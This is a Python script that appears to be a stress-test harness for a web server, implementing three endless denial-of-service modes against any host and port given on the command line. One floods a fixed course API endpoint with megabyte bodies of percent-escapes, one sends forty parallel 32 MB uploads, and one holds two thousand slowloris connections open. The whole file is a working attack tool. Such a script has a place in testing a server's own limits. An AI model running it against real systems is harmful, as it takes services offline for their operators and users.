"""Load without credentials, in a process of its own: `attacks.py KIND HOST PORT`.

hostile    four connections that send 1 MB of escapes again and again
uploads    forty connections that send forms of 32 MB
slow       two thousand connections that send the head of a request, a byte every ten seconds
"""

import asyncio
import sys
from typing import Final

FORM: Final = "application/x-www-form-urlencoded"
MULTIPART: Final = "multipart/form-data; boundary=x"
PATH: Final = "/partner/api/course.api.php?action=addCourse"
HOSTILE: Final = b"a=" + b"%41" * 349_000
PART: Final = b'--x\r\nContent-Disposition: form-data; name="Filedata"; filename="a.png"\r\n\r\n'
UPLOAD_BYTES: Final = 32 * 1024 * 1024
CHUNK: Final = bytes(256 * 1024)
SLOW_SECONDS: Final = 10


async def post(host: str, port: int, content_type: str, start: bytes, length: int) -> None:
    """Send one request, and read what comes back until the connection ends."""
    reader, writer = await asyncio.open_connection(host, port)
    head = (
        f"POST {PATH} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
        f"Content-Type: {content_type}\r\nContent-Length: {length}\r\n\r\n"
    )
    try:
        writer.write(head.encode() + start)
        left = length - len(start)
        while left > 0:
            writer.write(CHUNK[:left])
            left -= len(CHUNK)
            await writer.drain()
        await reader.read()
    finally:
        writer.close()


async def slow(host: str, port: int) -> None:
    """Send a head that does not end."""
    _, writer = await asyncio.open_connection(host, port)
    writer.write(b"GET / HTTP/1.1\r\nX: ")
    while True:
        await asyncio.sleep(SLOW_SECONDS)
        writer.write(b"y")
        await writer.drain()


async def attack(kind: str, host: str, port: int) -> None:
    """Keep some connections busy for ever."""

    async def repeat() -> None:
        while True:
            try:
                match kind:
                    case "hostile":
                        await post(host, port, FORM, HOSTILE, len(HOSTILE))
                    case "uploads":
                        await post(host, port, MULTIPART, PART, UPLOAD_BYTES)
                    case _:
                        await slow(host, port)
            except OSError:
                await asyncio.sleep(0.1)

    count = {"hostile": 4, "uploads": 40, "slow": 2_000}[kind]
    await asyncio.gather(*(repeat() for _ in range(count)))


if __name__ == "__main__":
    asyncio.run(attack(sys.argv[1], sys.argv[2], int(sys.argv[3])))
